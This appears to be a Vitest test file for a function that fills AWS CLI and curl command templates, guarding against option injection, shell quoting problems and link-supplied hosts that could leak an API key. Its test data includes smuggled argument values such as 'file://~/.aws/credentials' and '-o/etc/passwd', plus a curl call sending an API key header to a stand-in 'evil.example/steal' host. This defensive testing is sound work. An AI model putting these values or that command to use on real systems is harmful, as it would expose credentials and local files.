import { describe, expect, test } from "vitest";
import { catalogueCommands } from "../testing/catalogue-commands";
import { confirmed, fillCommand } from ".";

const filled = (template: string, parameters: { readonly [name: string]: string }) =>
  fillCommand(template, { parameters, linked: [] }).text;

describe("fillCommand", () => {
  test("fills in what is known and names what is not", () => {
    expect(
      filled("aws apigateway get-stages --rest-api-id {apiId} --region {region}", {
        apiId: "abcde12345",
      }),
    ).toBe("aws apigateway get-stages --rest-api-id abcde12345 --region REGION");
  });

  test("builds the URL from the host, or from the API's id", () => {
    const known = { apiId: "abcde12345", region: "eu-west-1", stage: "prod", path: "/pets" };
    const host = "abcde12345.execute-api.eu-west-1.amazonaws.com";
    expect(filled("{url}", known)).toBe(`https://${host}/prod/pets`);
    expect(filled("{url}", { ...known, host })).toBe(`https://${host}/prod/pets`);
    expect(filled("{url}", { host: "api.example.com", path: "/pets" })).toBe(
      "https://api.example.com/pets",
    );
    expect(filled("{url}", { host: "api.example.com" })).toBe("https://api.example.com/");
    expect(filled("{url}", {})).toBe("https://API_ID.execute-api.REGION.amazonaws.com/STAGE/PATH");
  });

  test("quotes the default stage of an HTTP API, which a shell would take for a variable", () => {
    const stage = { stage: "$default" };
    expect(filled("aws x --stage-name {stage} y", stage)).toBe("aws x --stage-name '$default' y");
    expect(filled("aws x 'of_{apiId}/{stage}'", stage)).toBe("aws x 'of_API_ID/$default'");
    expect(filled("aws x of_{stage}", stage)).toBe("aws x of_'$default'");
    expect(filled('aws x "of_{stage}"', stage)).toBe(`aws x "of_"'$default'""`);
  });

  test.each([
    ["host", "-f.env"],
    ["host", "@8.8.8.8"],
    ["host", "evil.example/x"],
    ["host", "good.example@evil.example"],
    ["stage", "-v"],
    ["stage", "file://~/.aws/credentials"],
    ["requestId", "--profile"],
    ["path", "-o/etc/passwd"],
    ["path", "/[1-9]"],
    ["path", "/{a,b}"],
    ["region", "--debug"],
  ])("writes no %s of another shape into a command: %s", (name, value) => {
    const template = `x {${name}} '{${name}}' a{${name}}`;
    expect(filled(template, { [name]: value })).toBe(filled(template, {}));
  });

  test("leaves no place of the catalogue open", () => {
    for (const { template } of catalogueCommands) {
      expect(filled(template, {})).not.toMatch(/\{[a-z]\w*\}(?!")/);
    }
  });
});

const evil = { host: "evil.example", path: "/steal", method: "GET", region: "eu-west-1" };
const own = { apiId: "abcde12345", region: "us-east-1", stage: "prod", method: "GET", path: "/a" };
const call = "curl -sS -i -X '{method}' '{url}'";
const keyed = `curl -sS -i -X '{method}' -H "x-api-key: $API_KEY" '{url}'`;

describe("what came with a link", () => {
  const linked = ["host", "path", "method", "region"] as const;

  test("is held back where the command carries a secret", () => {
    const command = fillCommand(keyed, { parameters: evil, linked });
    expect(command).toEqual({
      text: `curl -sS -i -X 'METHOD' -H "x-api-key: $API_KEY" 'https://HOST/PATH'`,
      held: { names: ["host", "path", "method"], risk: "secret", host: "evil.example" },
    });
  });

  test("is held back there even if the host has a name of AWS's: anybody can have an API", () => {
    const { text, held } = fillCommand(keyed, {
      parameters: own,
      linked: ["apiId", "region", "stage"],
    });
    expect(text).toContain("'https://API_ID.execute-api.REGION.amazonaws.com/STAGE/a'");
    expect(held?.host).toBe("abcde12345.execute-api.us-east-1.amazonaws.com");
  });

  test("is held back where the command calls a host that is none of AWS's", () => {
    expect(fillCommand(call, { parameters: evil, linked })).toEqual({
      text: "curl -sS -i -X 'METHOD' 'https://HOST/PATH'",
      held: { names: ["host", "path", "method"], risk: "call", host: "evil.example" },
    });
    const host = "abcde12345.execute-api.us-east-1.amazonaws.com";
    expect(fillCommand(call, { parameters: { ...own, host }, linked: ["host"] })).toEqual({
      text: `curl -sS -i -X 'GET' 'https://${host}/prod/a'`,
    });
  });

  test("is held back where the command would change something there", () => {
    const parameters = { ...own, method: "DELETE" };
    expect(fillCommand(call, { parameters, linked: ["method"] })).toEqual({
      text: "curl -sS -i -X 'METHOD' 'https://abcde12345.execute-api.us-east-1.amazonaws.com/prod/a'",
      held: { names: ["method"], risk: "call" },
    });
    expect(
      fillCommand("curl -sS '{url}'", { parameters, linked: ["method"] }).held,
    ).toBeUndefined();
  });

  test("is in commands that send nothing to it", () => {
    for (const template of ["dig +short {host}", "aws x --domain-name {host} --region {region}"]) {
      const { text, held } = fillCommand(template, { parameters: evil, linked });
      expect(text).toContain("evil.example");
      expect(held).toBeUndefined();
    }
  });

  test("leaves what the person pasted in its place", () => {
    const { text, held } = fillCommand(keyed, {
      parameters: { ...own, host: "api.example.com", path: "/wipe", method: "DELETE" },
      linked: ["path", "method"],
    });
    expect(text).toBe(
      `curl -sS -i -X 'METHOD' -H "x-api-key: $API_KEY" 'https://api.example.com/PATH'`,
    );
    expect(held).toEqual({ names: ["path", "method"], risk: "secret" });
  });

  test("is filled in when the person says that it is right", () => {
    expect(fillCommand(keyed, confirmed({ parameters: evil, linked }))).toEqual({
      text: `curl -sS -i -X 'GET' -H "x-api-key: $API_KEY" 'https://evil.example/steal'`,
    });
  });
});
